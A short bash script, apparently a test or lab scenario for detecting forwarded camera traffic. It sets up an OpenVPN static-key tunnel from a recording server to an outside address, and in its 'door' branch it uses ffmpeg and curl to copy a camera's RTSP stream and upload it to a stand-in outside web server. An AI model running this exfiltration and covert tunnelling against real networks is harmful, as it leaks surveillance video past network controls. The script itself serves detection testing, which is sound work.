#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=forwarded-camera half=report tool=openvpn,curl camera=10.20.0.13 far=out,door seconds=55 parts=dns,camera-door,outside-web whole=yes guest=openvpn
# A tunnel of openvpn's goes from the recording server to outside; a camera that nobody records puts its picture into a web server behind it.
key() { # both ends', made for the scene
	printf '%s\n' '-----BEGIN OpenVPN Static key V1-----'
	for row in 0 1 2 3 4 5 6 7 8 9 a b c d e f; do printf '%s\n' "${row}123456789abcdef0123456789abcde$row"; done
	printf '%s\n' '-----END OpenVPN Static key V1-----'
}
tunnel() {
	key >"$LAB/vpn.key" && chmod 600 "$LAB/vpn.key"
	exec openvpn --dev tun7 --dev-type tun --proto udp --secret "$LAB/vpn.key" \
		--cipher AES-256-CBC --auth-nocache --verb 1 --ping 5 "$@"
}
if [ "$1" = services ]; then
	tunnel --remote 203.0.113.66 1194 --nobind --ifconfig 172.29.0.2 172.29.0.1 --route 198.51.100.66
elif [ "$1" = out ]; then
	tunnel --local 203.0.113.66 --lport 1194 --float --ifconfig 172.29.0.1 172.29.0.2 --route 10.20.0.13
elif [ "$1" = door ]; then
	sleep 8
	timeout 44 ffmpeg -nostdin -loglevel error -rtsp_transport tcp -i rtsp://10.20.0.13/axis-media/media.amp -t 42 -c copy -f mpegts - |
		curl -s -o /dev/null -H Expect: -T - http://198.51.100.66/drop/door.ts
fi
